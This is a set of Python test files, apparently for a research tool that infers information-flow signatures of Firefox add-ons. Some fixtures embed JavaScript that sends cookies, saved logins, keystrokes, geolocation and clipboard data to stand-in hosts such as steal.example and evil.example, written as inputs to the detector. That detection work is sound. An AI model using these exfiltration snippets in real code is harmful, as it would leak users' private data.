    def test_mutating_the_copy_never_leaks_into_the_original(
        self, original, ops
    ):
        before = _snapshot(original)
        _apply(original.copy(), ops)
        assert _snapshot(original) == before

    @settings(max_examples=150, deadline=None)
    @given(_states, _ops)
    def test_mutating_the_original_never_leaks_into_the_copy(
        self, original, ops
    ):
        copy = original.copy()
        before = _snapshot(copy)
        _apply(original, ops)
        assert _snapshot(copy) == before

    @settings(max_examples=100, deadline=None)
    @given(_states)
    def test_copy_is_equal_and_join_identity(self, state):
        copy = state.copy()
        assert copy == state
        assert copy.leq(state) and state.leq(copy)
        assert state.join(copy) is state


class TestSharedStructureAgreesWithDeepCopy:
    """join/leq on COW siblings (states grown from a common ancestor,
    sharing subtrees) must compute exactly what structurally independent
    deep clones compute — the shared-subtree short-circuits are pure
    optimization."""

    @settings(max_examples=150, deadline=None)
    @given(_states, _ops, _ops)
    def test_join_matches_deep_copy_semantics(self, base, left_ops, right_ops):
        left = _apply(base.copy(), left_ops)
        right = _apply(base.copy(), right_ops)
        shared = left.join(right)
        deep = _deep(left).join(_deep(right))
        assert _snapshot(shared) == _snapshot(deep)

    @settings(max_examples=150, deadline=None)
    @given(_states, _ops, _ops)
    def test_leq_matches_deep_copy_semantics(self, base, left_ops, right_ops):
        left = _apply(base.copy(), left_ops)
        right = _apply(base.copy(), right_ops)
        assert left.leq(right) == _deep(left).leq(_deep(right))
        assert right.leq(left) == _deep(right).leq(_deep(left))

    @settings(max_examples=100, deadline=None)
    @given(_states, _ops)
    def test_join_with_grown_sibling_is_upper_bound(self, base, ops):
        grown = _apply(base.copy(), ops)
        joined = base.join(grown)
        assert base.leq(joined)
        assert grown.leq(joined)

    @settings(max_examples=100, deadline=None)
    @given(_states, _ops)
    def test_join_result_leaves_operands_untouched(self, base, ops):
        grown = _apply(base.copy(), ops)
        base_before = _snapshot(base)
        grown_before = _snapshot(grown)
        base.join(grown)
        grown.join(base)
        assert _snapshot(base) == base_before
        assert _snapshot(grown) == grown_before
