"""Unit tests for the VEX-style explicit-taint baseline."""

import pytest

from repro.api import analyze_addon, build_addon_pdg
from repro.browser import mozilla_spec
from repro.signatures import FlowType, infer_signature
from repro.signatures.taint import implicit_only_flows, infer_taint_signature


def run_both(source):
    program, result = analyze_addon(source)
    pdg = build_addon_pdg(result)
    spec = mozilla_spec()
    full = infer_signature(result, pdg, spec).signature
    taint = infer_taint_signature(result, pdg, spec).signature
    return full, taint


EXPLICIT = """
var xhr = new XMLHttpRequest();
xhr.open("GET", "https://x.example/?u=" + content.location.href, true);
xhr.send(null);
"""

IMPLICIT = """
window.addEventListener("load", function (e) {
    if (content.location.href == "secret.example") {
        var xhr = new XMLHttpRequest();
        xhr.open("GET", "https://out.example/ping", true);
        xhr.send(null);
    }
}, false);
"""


class TestTaintBaseline:
    def test_explicit_flow_found_by_both(self):
        full, taint = run_both(EXPLICIT)
        assert full.flows == taint.flows
        assert taint.flows

    def test_implicit_flow_invisible_to_taint(self):
        full, taint = run_both(IMPLICIT)
        assert full.flows  # the signature analysis sees it
        assert not taint.flows  # the taint baseline does not

    def test_taint_reports_only_type1_type2(self):
        full, taint = run_both(EXPLICIT + IMPLICIT)
        assert all(
            e.flow_type in (FlowType.TYPE1, FlowType.TYPE2)
            for e in taint.flows
        )

    def test_implicit_only_flows_helper(self):
        full, taint = run_both(EXPLICIT + IMPLICIT)
        missed = implicit_only_flows(full, taint)
        assert missed
        assert all(
            e.flow_type not in (FlowType.TYPE1, FlowType.TYPE2) for e in missed
        )

    def test_api_usage_still_reported(self):
        full, taint = run_both("eval('x');")
        assert any(e.api == "eval" for e in taint.apis)

    def test_bare_sends_still_reported(self):
        full, taint = run_both(
            """
            var xhr = new XMLHttpRequest();
            xhr.open("GET", "https://static.example/feed", true);
            xhr.send(null);
            """
        )
        assert any(
            e.domain is not None and "static.example" in e.domain.text
            for e in taint.apis
        )
