"""Tests for the signature grammar (Figure 3): rendering, parsing, and
round-trips."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from repro.domains import prefix as p
from repro.signatures import (
    ApiEntry,
    FlowEntry,
    FlowType,
    Signature,
    parse_entry,
    parse_signature,
)

_names = st.text(
    alphabet="abcdefghijklmnopqrstuvwxyz.-", min_size=1, max_size=12
).filter(lambda s: s.strip("-.") == s and s)
# Exact domains ending in "..." (or equal to the "*"/"⊥" markers) are
# reserved textual forms — see the signature module docstring — so the
# round-trip strategy excludes them, as no real URL ends that way.
_domain_texts = st.text(alphabet="abc./:?=", min_size=1, max_size=15).filter(
    lambda s: not s.endswith("...") and not s.endswith("…") and s not in ("*", "⊥")
)
_domains = st.one_of(
    st.none(),
    st.just(p.TOP),
    st.builds(p.exact, _domain_texts),
    st.builds(p.prefix, _domain_texts),
)


class TestRendering:
    def test_flow_entry(self):
        entry = FlowEntry("url", FlowType.TYPE1, "send", p.exact("a.example"))
        assert entry.render() == "url -type1-> send(a.example)"

    def test_flow_entry_prefix_domain(self):
        entry = FlowEntry("url", FlowType.TYPE2, "send", p.prefix("a.example/"))
        assert entry.render() == "url -type2-> send(a.example/...)"

    def test_flow_entry_top_domain(self):
        entry = FlowEntry("key", FlowType.TYPE3, "send", p.TOP)
        assert entry.render() == "key -type3-> send(*)"

    def test_api_entry(self):
        assert ApiEntry("scriptloader").render() == "scriptloader"

    def test_api_entry_with_domain(self):
        assert ApiEntry("send", p.exact("x.example")).render() == "send(x.example)"

    def test_signature_renders_sorted(self):
        signature = Signature(
            frozenset(
                {
                    ApiEntry("scriptloader"),
                    FlowEntry("url", FlowType.TYPE1, "send", p.exact("a")),
                }
            )
        )
        lines = signature.render().splitlines()
        assert lines == sorted(lines)


class TestParsing:
    def test_parse_flow_entry(self):
        entry = parse_entry("url -type1-> send(toolbar.example)")
        assert entry == FlowEntry("url", FlowType.TYPE1, "send", p.exact("toolbar.example"))

    def test_parse_flow_entry_prefix(self):
        entry = parse_entry("url -type2-> send(api.example/...)")
        assert entry.domain == p.prefix("api.example/")

    def test_parse_flow_entry_unicode_ellipsis(self):
        entry = parse_entry("url -type2-> send(api.example/…)")
        assert entry.domain == p.prefix("api.example/")

    def test_parse_star_domain(self):
        entry = parse_entry("key -type8-> send(*)")
        assert entry.domain == p.TOP

    def test_parse_bare_api(self):
        entry = parse_entry("scriptloader")
        assert entry == ApiEntry("scriptloader")

    def test_parse_sink_without_domain(self):
        entry = parse_entry("url -type4-> scriptloader")
        assert entry.domain is None

    def test_parse_signature_skips_comments_and_blanks(self):
        signature = parse_signature(
            """
            # the documented flow
            url -type1-> send(a.example)

            scriptloader
            """
        )
        assert len(signature) == 2

    def test_parse_rejects_garbage(self):
        with pytest.raises(ValueError):
            parse_entry("url -> -> send")

    def test_parse_rejects_bad_type(self):
        with pytest.raises(ValueError):
            parse_entry("url -type9-> send(a)")


class TestRoundTrip:
    @given(
        _names,
        st.sampled_from(list(FlowType)),
        _names,
        _domains,
    )
    def test_flow_entry_roundtrip(self, source, flow_type, sink, domain):
        entry = FlowEntry(source, flow_type, sink, domain)
        assert parse_entry(entry.render()) == entry

    @given(_names, _domains)
    def test_api_entry_roundtrip(self, api, domain):
        entry = ApiEntry(api, domain)
        assert parse_entry(entry.render()) == entry

    def test_corpus_manual_signatures_roundtrip(self):
        from repro.addons import CORPUS

        for spec in CORPUS:
            signature = spec.manual_signature
            reparsed = parse_signature(signature.render())
            assert reparsed == signature, spec.name


class TestSignatureContainer:
    def test_flows_and_apis_partition(self):
        signature = Signature(
            frozenset(
                {
                    FlowEntry("url", FlowType.TYPE1, "send", p.TOP),
                    ApiEntry("eval"),
                }
            )
        )
        assert len(signature.flows) == 1
        assert len(signature.apis) == 1

    def test_iteration_deterministic(self):
        signature = Signature(
            frozenset(
                {
                    ApiEntry("b"),
                    ApiEntry("a"),
                    ApiEntry("c"),
                }
            )
        )
        assert [e.api for e in signature] == ["a", "b", "c"]
