"""Tests for flow witnesses (explain)."""

import pytest

from repro.api import analyze_addon, build_addon_pdg, infer_addon_signature
from repro.signatures.explain import explain_all, explain_flow


def pipeline(source):
    program, result = analyze_addon(source)
    pdg = build_addon_pdg(result)
    detail = infer_addon_signature(result, pdg)
    return pdg, detail


class TestExplain:
    def test_witness_for_explicit_flow(self):
        pdg, detail = pipeline(
            """
            var u = content.location.href;
            var xhr = new XMLHttpRequest();
            xhr.open("GET", "https://x.example/?u=" + u, true);
            xhr.send(null);
            """
        )
        entry = next(iter(detail.signature.flows))
        witness = explain_flow(pdg, detail, entry)
        assert witness is not None
        assert witness.steps
        # Starts at the source read (line 2) and ends at a sink line.
        assert witness.lines[0] == 2
        assert all(s.annotation.is_data for s in witness.steps)

    def test_witness_for_implicit_flow_uses_control_edges(self):
        pdg, detail = pipeline(
            """
            window.addEventListener("load", function (e) {
                if (content.location.href == "secret.example") {
                    var xhr = new XMLHttpRequest();
                    xhr.open("GET", "https://out.example/ping", true);
                    xhr.send(null);
                }
            }, false);
            """
        )
        entry = next(iter(detail.signature.flows))
        witness = explain_flow(pdg, detail, entry)
        assert witness is not None
        assert any(step.annotation.is_control for step in witness.steps)

    def test_witness_render(self):
        pdg, detail = pipeline(
            """
            var u = content.location.href;
            var xhr = new XMLHttpRequest();
            xhr.open("GET", "https://x.example/?u=" + u, true);
            xhr.send(null);
            """
        )
        witnesses = explain_all(pdg, detail)
        assert witnesses
        text = witnesses[0].render()
        assert "witness for: url" in text
        assert "-->" in text

    def test_no_witness_for_foreign_entry(self):
        pdg, detail = pipeline("var x = 1;")
        from repro.domains import prefix as p
        from repro.signatures import FlowEntry, FlowType

        foreign = FlowEntry("url", FlowType.TYPE1, "send", p.TOP)
        assert explain_flow(pdg, detail, foreign) is None

    def test_witness_path_is_connected(self):
        pdg, detail = pipeline(
            """
            function relay(v) { return v; }
            var u = content.location.href;
            var hop = relay(u);
            var xhr = new XMLHttpRequest();
            xhr.open("GET", "https://x.example/?u=" + hop, true);
            xhr.send(null);
            """
        )
        entry = next(iter(detail.signature.flows))
        witness = explain_flow(pdg, detail, entry)
        assert witness is not None
        for first, second in zip(witness.steps, witness.steps[1:]):
            assert first.target_sid == second.source_sid
