"""Property-based tests of the flow-type fixpoint (Section 4.2).

For random annotated PDGs, the fixpoint result must satisfy the paper's
path-based specification: statement ``v`` has flow type ``t`` from a
source iff (1) some source-to-v path uses only annotations allowed by
``t`` and (2) no stronger type admits such a path.
"""

from hypothesis import given, settings
from hypothesis import strategies as st

from repro.ir.nodes import ProgramIR
from repro.pdg.annotations import Annotation
from repro.pdg.graph import PDG
from repro.signatures.flowtypes import DEFAULT_LATTICE, FlowType
from repro.signatures.inference import flow_types_from

_NODES = list(range(8))

_edges = st.dictionaries(
    keys=st.tuples(st.sampled_from(_NODES), st.sampled_from(_NODES)),
    values=st.sets(st.sampled_from(list(Annotation)), min_size=1, max_size=2),
    max_size=16,
)


def make_pdg(edges):
    pdg = PDG(program=ProgramIR(functions={}, stmts={}, owner={}, global_names=set()))
    for (source, target), annotations in edges.items():
        for annotation in annotations:
            pdg.add_edge(source, target, annotation)
    return pdg


def path_exists(edges, sources, target, allowed):
    """Reference implementation: DFS over the allowed sub-graph."""
    adjacency = {}
    for (a, b), annotations in edges.items():
        if annotations & allowed:
            adjacency.setdefault(a, []).append(b)
    seen = set(sources)
    stack = list(sources)
    while stack:
        node = stack.pop()
        if node == target:
            return True
        for succ in adjacency.get(node, ()):  # noqa: B020
            if succ not in seen:
                seen.add(succ)
                stack.append(succ)
    return target in seen


class TestFixpointAgainstPathSpec:
    @settings(max_examples=60, deadline=None)
    @given(_edges, st.sets(st.sampled_from(_NODES), min_size=1, max_size=2))
    def test_every_reported_type_has_a_witnessing_path(self, edges, sources):
        pdg = make_pdg(edges)
        result = flow_types_from(pdg, sources)
        for node, types in result.items():
            for flow_type in types:
                allowed = DEFAULT_LATTICE.allowed_annotations(flow_type)
                assert path_exists(edges, sources, node, allowed), (
                    node, flow_type,
                )

    @settings(max_examples=60, deadline=None)
    @given(_edges, st.sets(st.sampled_from(_NODES), min_size=1, max_size=2))
    def test_no_stronger_type_is_missed(self, edges, sources):
        pdg = make_pdg(edges)
        result = flow_types_from(pdg, sources)
        for node, types in result.items():
            for candidate in FlowType:
                allowed = DEFAULT_LATTICE.allowed_annotations(candidate)
                if path_exists(edges, sources, node, allowed):
                    # Some reported type must be at least as strong — by
                    # rank: when two incomparable types at the same rank
                    # both admit a path (e.g. type6/type7 for a path of
                    # strictly stronger annotations), ``extend``
                    # deterministically reports the first in rank order
                    # (the docstring's extend(type4, nonlocexp^amp) =
                    # type6), which covers the tied candidate.
                    assert any(
                        DEFAULT_LATTICE.rank(reported)
                        <= DEFAULT_LATTICE.rank(candidate)
                        for reported in types
                    ), (node, candidate, types)

    @settings(max_examples=60, deadline=None)
    @given(_edges, st.sets(st.sampled_from(_NODES), min_size=1, max_size=2))
    def test_result_sets_are_antichains(self, edges, sources):
        pdg = make_pdg(edges)
        result = flow_types_from(pdg, sources)
        for types in result.values():
            for a in types:
                for b in types:
                    if a is not b:
                        assert not DEFAULT_LATTICE.stronger_or_equal(a, b)

    @settings(max_examples=60, deadline=None)
    @given(_edges, st.sets(st.sampled_from(_NODES), min_size=1, max_size=2))
    def test_sources_are_type1(self, edges, sources):
        pdg = make_pdg(edges)
        result = flow_types_from(pdg, sources)
        for source in sources:
            assert result[source] == {FlowType.TYPE1}

    @settings(max_examples=40, deadline=None)
    @given(_edges, st.sets(st.sampled_from(_NODES), min_size=1, max_size=2))
    def test_unreachable_nodes_absent(self, edges, sources):
        pdg = make_pdg(edges)
        result = flow_types_from(pdg, sources)
        all_allowed = frozenset(Annotation)
        for node in _NODES:
            reachable = path_exists(edges, sources, node, all_allowed)
            assert (node in result) == (reachable or node in sources)
