"""Tests for the pass/fail/leak comparison logic (Section 6.2)."""

from repro.domains import prefix as p
from repro.signatures import (
    ApiEntry,
    FlowEntry,
    FlowType,
    Signature,
    Verdict,
    compare,
)

URL_FLOW = FlowEntry("url", FlowType.TYPE1, "send", p.exact("a.example"))
KEY_FLOW = FlowEntry("key", FlowType.TYPE3, "send", p.exact("b.example"))
BARE_SEND = ApiEntry("send", p.exact("c.example"))


def sig(*entries):
    return Signature(frozenset(entries))


class TestVerdicts:
    def test_exact_match_passes(self):
        result = compare(sig(URL_FLOW), sig(URL_FLOW))
        assert result.verdict is Verdict.PASS
        assert not result.extra and not result.missing

    def test_empty_signatures_pass(self):
        assert compare(sig(), sig()).verdict is Verdict.PASS

    def test_extra_unexplained_entry_fails(self):
        result = compare(sig(URL_FLOW, KEY_FLOW), sig(URL_FLOW))
        assert result.verdict is Verdict.FAIL
        assert result.extra == frozenset({KEY_FLOW})

    def test_extra_known_real_entry_leaks(self):
        result = compare(
            sig(URL_FLOW, KEY_FLOW), sig(URL_FLOW),
            real_extras=frozenset({KEY_FLOW}),
        )
        assert result.verdict is Verdict.LEAK

    def test_mixed_real_and_spurious_extras_fail(self):
        result = compare(
            sig(URL_FLOW, KEY_FLOW, BARE_SEND), sig(URL_FLOW),
            real_extras=frozenset({KEY_FLOW}),
        )
        assert result.verdict is Verdict.FAIL

    def test_missing_only_is_miss(self):
        result = compare(sig(), sig(URL_FLOW))
        assert result.verdict is Verdict.MISS
        assert result.missing == frozenset({URL_FLOW})

    def test_domain_mismatch_counts_as_extra(self):
        # The paper's fail mode: same flow, but the inferred domain is
        # the unknown string while the manual one is exact.
        inferred = FlowEntry("url", FlowType.TYPE1, "send", p.TOP)
        result = compare(sig(inferred), sig(URL_FLOW))
        assert result.verdict is Verdict.FAIL
        assert inferred in result.extra
        assert URL_FLOW in result.missing

    def test_flow_type_mismatch_counts_as_extra(self):
        # The YoutubeDownloader pattern: manual says type3, analysis
        # finds type1 (a real, stronger flow).
        inferred = FlowEntry("url", FlowType.TYPE1, "send", p.exact("a.example"))
        manual = FlowEntry("url", FlowType.TYPE3, "send", p.exact("a.example"))
        result = compare(
            sig(inferred), sig(manual), real_extras=frozenset({inferred})
        )
        assert result.verdict is Verdict.LEAK


class TestRendering:
    def test_render_includes_verdict_and_entries(self):
        result = compare(sig(URL_FLOW, KEY_FLOW), sig(URL_FLOW))
        text = result.render()
        assert "verdict: fail" in text
        assert "extra:" in text
