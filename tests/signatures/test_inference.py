"""End-to-end signature inference tests (the full P1+P2+P3 pipeline
under the browser environment)."""

import pytest

from repro.api import infer_signature, vet
from repro.domains import prefix as p
from repro.signatures import ApiEntry, FlowEntry, FlowType


def flows(signature):
    return {(e.source, e.flow_type, e.sink) for e in signature.flows}


def flow_for(signature, source, sink="send"):
    return {e for e in signature.flows if e.source == source and e.sink == sink}


class TestExplicitFlows:
    def test_direct_url_send_is_type1(self):
        signature = infer_signature(
            """
            var xhr = new XMLHttpRequest();
            xhr.open("GET", "http://rank.example.com/q=" + content.location.href);
            xhr.send();
            """
        )
        assert ("url", FlowType.TYPE1, "send") in flows(signature)

    def test_url_through_object_property(self):
        signature = infer_signature(
            """
            var payload = { page: content.location.href };
            var xhr = new XMLHttpRequest();
            xhr.open("POST", "http://collect.example.com/submit");
            xhr.send(payload.page);
            """
        )
        assert ("url", FlowType.TYPE1, "send") in flows(signature)

    def test_no_source_no_flow(self):
        signature = infer_signature(
            """
            var xhr = new XMLHttpRequest();
            xhr.open("GET", "http://static.example.com/feed");
            xhr.send();
            """
        )
        assert not signature.flows
        assert ApiEntry("send", p.exact("http://static.example.com/feed")) in signature.entries

    def test_domain_inferred_exactly(self):
        signature = infer_signature(
            """
            var xhr = new XMLHttpRequest();
            xhr.open("GET", "http://api.example.org/lookup?u=" + content.location.href);
            xhr.send();
            """
        )
        entry = flow_for(signature, "url").pop()
        # The appended href is unknown, so the domain is a prefix: exactly
        # what Section 5 designs for.
        assert entry.domain == p.prefix("http://api.example.org/lookup?u=")

    def test_unknown_suffix_keeps_domain_prefix(self):
        signature = infer_signature(
            """
            var base = "http://api.example.org/v1/";
            var path = Math.random() ? "a" : "b";
            var xhr = new XMLHttpRequest();
            xhr.open("GET", base + path + content.location.href);
            xhr.send();
            """
        )
        entry = flow_for(signature, "url").pop()
        assert entry.domain == p.prefix("http://api.example.org/v1/")


class TestImplicitFlows:
    def test_conditional_assignment_is_local(self):
        signature = infer_signature(
            """
            var flag = "no";
            if (content.location.href == "https://bank.example")
                flag = "yes";
            var xhr = new XMLHttpRequest();
            xhr.open("GET", "http://evil.example/" + flag);
            xhr.send();
            """
        )
        entries = flow_for(signature, "url")
        assert entries
        assert {e.flow_type for e in entries} <= {FlowType.TYPE3, FlowType.TYPE4}

    def test_handler_flow_is_amplified(self):
        signature = infer_signature(
            """
            window.addEventListener("keypress", function(e) {
                var xhr = new XMLHttpRequest();
                xhr.open("GET", "http://log.example/k=" + e.keyCode);
                xhr.send();
            }, false);
            """
        )
        entries = flow_for(signature, "key")
        assert entries
        # Data flow inside a handler: still type1 as data; check the key
        # source reaches the sink at all.
        assert any(
            e.flow_type in (FlowType.TYPE1, FlowType.TYPE2, FlowType.TYPE3)
            for e in entries
        )

    def test_implicit_only_key_flow_in_handler_is_type3(self):
        signature = infer_signature(
            """
            window.addEventListener("keypress", function(e) {
                if (e.keyCode == 84) {
                    var xhr = new XMLHttpRequest();
                    xhr.open("GET", "http://translate.example/run");
                    xhr.send();
                }
            }, false);
            """
        )
        entries = flow_for(signature, "key")
        assert {e.flow_type for e in entries} == {FlowType.TYPE3}


class TestOtherSources:
    def test_cookie_source(self):
        signature = infer_signature(
            """
            var c = content.document.cookie;
            var xhr = new XMLHttpRequest();
            xhr.open("GET", "http://steal.example/?c=" + c);
            xhr.send();
            """
        )
        assert ("cookie", FlowType.TYPE1, "send") in flows(signature)

    def test_password_source(self):
        signature = infer_signature(
            """
            var logins = Services.logins.getAllLogins();
            var xhr = new XMLHttpRequest();
            xhr.open("POST", "http://steal.example/pw");
            xhr.send(logins[0]);
            """
        )
        assert any(e.source == "password" for e in signature.flows)

    def test_geolocation_source(self):
        signature = infer_signature(
            """
            navigator.geolocation.getCurrentPosition(function(pos) {
                var xhr = new XMLHttpRequest();
                xhr.open("GET", "http://track.example/?lat=" + pos.coords.latitude);
                xhr.send();
            });
            """
        )
        assert any(e.source == "geoloc" for e in signature.flows)

    def test_clipboard_source(self):
        signature = infer_signature(
            """
            var clip = Services.clipboard.getData();
            var xhr = new XMLHttpRequest();
            xhr.open("POST", "http://paste.example/x");
            xhr.send(clip);
            """
        )
        assert any(e.source == "clipboard" for e in signature.flows)


class TestApiUsage:
    def test_scriptloader_usage_reported(self):
        signature = infer_signature(
            """
            Services.scriptloader.loadSubScript("chrome://addon/helper.js");
            """
        )
        assert ApiEntry("scriptloader") in signature.entries

    def test_eval_usage_reported(self):
        signature = infer_signature("eval('1 + 1');")
        assert ApiEntry("eval") in signature.entries

    def test_api_usage_through_function_copy(self):
        # "functions can be copied and passed around in JavaScript".
        signature = infer_signature(
            """
            var loader = Services.scriptloader.loadSubScript;
            var alias = loader;
            alias("chrome://addon/payload.js");
            """
        )
        assert ApiEntry("scriptloader") in signature.entries

    def test_no_api_usage_when_only_referenced(self):
        signature = infer_signature(
            "var maybe = Services.scriptloader;"
        )
        assert ApiEntry("scriptloader") not in signature.entries


class TestXHRWrapperPattern:
    def test_wrapper_send_domain_from_wrap_site(self):
        signature = infer_signature(
            """
            var req = XHRWrapper("http://api.partner.example/");
            req.send(content.location.href);
            """
        )
        entry = flow_for(signature, "url").pop()
        assert entry.domain.concrete() == "http://api.partner.example/"

    def test_paper_section2_implicit(self):
        signature = infer_signature(
            """
            window.addEventListener("load", check, false);
            var publicServer = "http://public.example/";
            function check(e) {
                var seen = false;
                if (content.location.href == "sensitive.com")
                    seen = true;
                var request = XHRWrapper(publicServer);
                request.send(seen);
            }
            """
        )
        entries = flow_for(signature, "url")
        assert {e.flow_type for e in entries} == {FlowType.TYPE3}


class TestMultipleSinks:
    def test_two_domains_two_entries(self):
        signature = infer_signature(
            """
            var a = new XMLHttpRequest();
            a.open("GET", "http://one.example/" + content.location.href);
            a.send();
            var b = new XMLHttpRequest();
            b.open("GET", "http://two.example/static");
            b.send();
            """
        )
        domains = {e.domain.text for e in signature.flows if e.domain}
        assert any(d.startswith("http://one.example/") for d in domains)
        bare = {e.domain.text for e in signature.apis if e.domain}
        assert any(d.startswith("http://two.example/") for d in bare)


class TestRedirectSink:
    """Redirect-based exfiltration (the PropertyWriteSink extension):
    assigning location.href sends data without any XHR."""

    def test_cookie_exfiltration_via_redirect(self):
        signature = infer_signature(
            """
            content.location.href =
                "https://evil.example/c?d=" + content.document.cookie;
            """
        )
        entries = flow_for(signature, "cookie", sink="redirect")
        assert entries
        entry = entries.pop()
        assert entry.flow_type is FlowType.TYPE1
        assert entry.domain.text.startswith("https://evil.example/")

    def test_plain_navigation_is_bare_entry(self):
        signature = infer_signature(
            'content.location.href = "https://docs.example/help";'
        )
        assert not signature.flows
        assert any(
            e.api == "redirect" and "docs.example" in e.domain.text
            for e in signature.apis
        )

    def test_implicit_redirect_flow(self):
        signature = infer_signature(
            """
            window.addEventListener("load", function (e) {
                if (content.document.cookie == "vip=1") {
                    content.location.href = "https://track.example/vip";
                }
            }, false);
            """
        )
        entries = flow_for(signature, "cookie", sink="redirect")
        assert {e.flow_type for e in entries} == {FlowType.TYPE3}
