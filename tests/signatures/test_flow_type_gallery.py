"""A program per flow type: the paper's "set of tests showing various
kinds of information flows" (Section 6.1 says these were bundled with
the implementation).

Each snippet is engineered so the *strongest* path from the url source
to the network sink exercises exactly one lattice point of Figure 4:

- type1 — direct data flow;
- type2 — data flow through a weakly-read location;
- type3 — implicit (local control) flow inside an event handler
  (amplified by the event loop);
- type4 — the same implicit flow at the top level (runs once: no amp);
- type5 — flow through an explicit jump (early return), amplified;
- type6 — flow through an explicit throw at the top level;
- type7 — flow through a possible implicit exception, amplified;
- type8 — the same implicit-exception flow at the top level.
"""

import pytest

from repro.api import infer_signature
from repro.signatures import FlowType

SEND_FIXED = """
var req = new XMLHttpRequest();
req.open("GET", "https://sink.example/ping", true);
req.send(null);
"""


def url_flow_types(source):
    signature = infer_signature(source)
    return {
        entry.flow_type
        for entry in signature.flows
        if entry.source == "url" and entry.sink == "send"
    }


class TestFlowTypeGallery:
    def test_type1_direct_data(self):
        types = url_flow_types(
            """
            var req = new XMLHttpRequest();
            req.open("GET", "https://sink.example/?u=" + content.location.href, true);
            req.send(null);
            """
        )
        assert types == {FlowType.TYPE1}

    def test_type2_weak_data(self):
        types = url_flow_types(
            """
            var store = {};
            store[someKey()] = content.location.href;
            var req = new XMLHttpRequest();
            req.open("GET", "https://sink.example/?v=" + store[otherKey()], true);
            req.send(null);
            """
        )
        assert types == {FlowType.TYPE2}

    def test_type3_local_implicit_in_handler(self):
        types = url_flow_types(
            """
            window.addEventListener("load", function (e) {
                if (content.location.href == "secret.example") {"""
            + SEND_FIXED
            + """
                }
            }, false);
            """
        )
        assert types == {FlowType.TYPE3}

    def test_type4_local_implicit_top_level(self):
        types = url_flow_types(
            """
            if (content.location.href == "secret.example") {"""
            + SEND_FIXED
            + """
            }
            """
        )
        assert types == {FlowType.TYPE4}

    def test_type5_explicit_jump_amplified(self):
        types = url_flow_types(
            """
            window.addEventListener("load", function (e) {
                if (content.location.href == "skip.example") {
                    return;
                }"""
            + SEND_FIXED
            + """
            }, false);
            """
        )
        assert types == {FlowType.TYPE5}

    def test_type6_explicit_jump_top_level(self):
        types = url_flow_types(
            """
            try {
                if (content.location.href == "skip.example") {
                    throw "skip";
                }"""
            + SEND_FIXED
            + """
            } catch (e) {}
            """
        )
        assert types == {FlowType.TYPE6}

    def test_type7_implicit_exception_amplified(self):
        types = url_flow_types(
            """
            window.addEventListener("load", function (e) {
                try {
                    if (content.location.href == "trip.example") {
                        maybeUndefined.prop = 1;
                    }"""
            + SEND_FIXED
            + """
                } catch (e2) {}
            }, false);
            """
        )
        assert types == {FlowType.TYPE7}

    def test_type8_implicit_exception_top_level(self):
        types = url_flow_types(
            """
            try {
                if (content.location.href == "trip.example") {
                    maybeUndefined.prop = 1;
                }"""
            + SEND_FIXED
            + """
            } catch (e) {}
            """
        )
        assert types == {FlowType.TYPE8}
