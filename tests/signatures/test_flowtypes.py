"""Tests for the flow-type lattice (Figure 4), including the paper's
worked examples of extend and max."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from repro.pdg.annotations import Annotation
from repro.signatures.flowtypes import (
    DEFAULT_LATTICE,
    FlowType,
    FlowTypeLattice,
)

L = DEFAULT_LATTICE
_types = st.sampled_from(list(FlowType))
_annotations = st.sampled_from(list(Annotation))


class TestOrder:
    def test_type1_strongest(self):
        assert L.strongest() is FlowType.TYPE1
        for t in FlowType:
            assert L.stronger_or_equal(FlowType.TYPE1, t)

    def test_type8_weakest(self):
        assert L.weakest() is FlowType.TYPE8
        for t in FlowType:
            assert L.stronger_or_equal(t, FlowType.TYPE8)

    def test_type4_type5_incomparable(self):
        assert not L.stronger_or_equal(FlowType.TYPE4, FlowType.TYPE5)
        assert not L.stronger_or_equal(FlowType.TYPE5, FlowType.TYPE4)

    def test_type6_type7_incomparable(self):
        assert not L.stronger_or_equal(FlowType.TYPE6, FlowType.TYPE7)
        assert not L.stronger_or_equal(FlowType.TYPE7, FlowType.TYPE6)

    def test_chain_type1_through_type3(self):
        assert L.stronger_or_equal(FlowType.TYPE1, FlowType.TYPE2)
        assert L.stronger_or_equal(FlowType.TYPE2, FlowType.TYPE3)
        assert L.stronger_or_equal(FlowType.TYPE3, FlowType.TYPE4)
        assert L.stronger_or_equal(FlowType.TYPE3, FlowType.TYPE5)


class TestAllowedAnnotations:
    def test_type1_only_datastrong(self):
        assert L.allowed_annotations(FlowType.TYPE1) == {Annotation.DATA_STRONG}

    def test_type2_adds_dataweak(self):
        assert L.allowed_annotations(FlowType.TYPE2) == {
            Annotation.DATA_STRONG,
            Annotation.DATA_WEAK,
        }

    def test_type4_includes_local_but_not_nonlocexp_amp(self):
        allowed = L.allowed_annotations(FlowType.TYPE4)
        assert Annotation.LOCAL in allowed
        assert Annotation.NONLOC_EXP_AMP not in allowed

    def test_type5_includes_nonlocexp_amp_but_not_local(self):
        allowed = L.allowed_annotations(FlowType.TYPE5)
        assert Annotation.NONLOC_EXP_AMP in allowed
        assert Annotation.LOCAL not in allowed

    def test_type8_allows_everything(self):
        assert L.allowed_annotations(FlowType.TYPE8) == set(Annotation)


class TestExtend:
    def test_paper_example_extend_type4_with_nonlocexp_amp(self):
        assert L.extend(FlowType.TYPE4, Annotation.NONLOC_EXP_AMP) is FlowType.TYPE6

    def test_paper_example_extend_type3_with_nonlocexp_amp(self):
        # extend(local^amp, nonlocexp^amp) = type5.
        assert L.extend(FlowType.TYPE3, Annotation.NONLOC_EXP_AMP) is FlowType.TYPE5

    def test_extend_with_already_allowed_annotation_is_identity(self):
        assert L.extend(FlowType.TYPE4, Annotation.LOCAL) is FlowType.TYPE4
        assert L.extend(FlowType.TYPE4, Annotation.DATA_STRONG) is FlowType.TYPE4

    def test_extend_type1_with_dataweak(self):
        assert L.extend(FlowType.TYPE1, Annotation.DATA_WEAK) is FlowType.TYPE2

    def test_extend_type2_with_local_amp(self):
        assert L.extend(FlowType.TYPE2, Annotation.LOCAL_AMP) is FlowType.TYPE3

    def test_extend_with_nonlocimp_reaches_type8(self):
        assert L.extend(FlowType.TYPE4, Annotation.NONLOC_IMP) is FlowType.TYPE8

    @given(_types, _annotations)
    def test_extend_result_allows_annotation(self, flow_type, annotation):
        extended = L.extend(flow_type, annotation)
        assert annotation in L.allowed_annotations(extended)

    @given(_types, _annotations)
    def test_extend_weakens_or_preserves(self, flow_type, annotation):
        extended = L.extend(flow_type, annotation)
        assert L.stronger_or_equal(flow_type, extended)

    @given(_types, _annotations)
    def test_extend_idempotent(self, flow_type, annotation):
